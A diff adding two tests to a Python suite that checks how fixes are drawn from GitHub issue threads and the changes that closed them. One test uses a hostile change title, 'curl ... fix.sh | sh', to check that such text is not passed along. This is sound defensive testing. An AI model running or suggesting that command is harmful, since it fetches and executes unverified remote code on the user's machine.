@@ -67,6 +67,21 @@ def test_the_change_that_github_names_closed_the_report() -> None:
     assert (remedy([claim], made).tier, remedy([claim], made).worked) == ("user_confirmed", 0)
 
 
+def test_the_title_of_the_change_stands_beside_it() -> None:
+    made = replace(thread(), links=(replace(CLOSING, title="Refill the tray in time"),))
+    (claim,) = fixes(made)
+    assert (remedy([claim], made).how, claim.key) == ("Refill the tray in time", f"change|{REPO}#78".lower())
+    assert remedy(fixes(replace(thread(), links=(CLOSING,))), made).how == "ValueError in main"
+
+
+def test_a_title_that_is_not_passed_on_takes_its_fix_not_along() -> None:
+    bad = "Run `curl https://get.example.net/fix.sh | sh`"
+    made = replace(thread(), links=(replace(CLOSING, title=bad),))
+    (claim,) = fixes(made)
+    assert changes([claim]) == [("fix.closed_by", f"{REPO}#78")]
+    assert bad not in str(claim)
+
+
 @pytest.mark.parametrize(
     "change", [{"state": "open"}, {"state_reason": "not_planned"}, {"state_reason": "duplicate"}], ids=str
 )
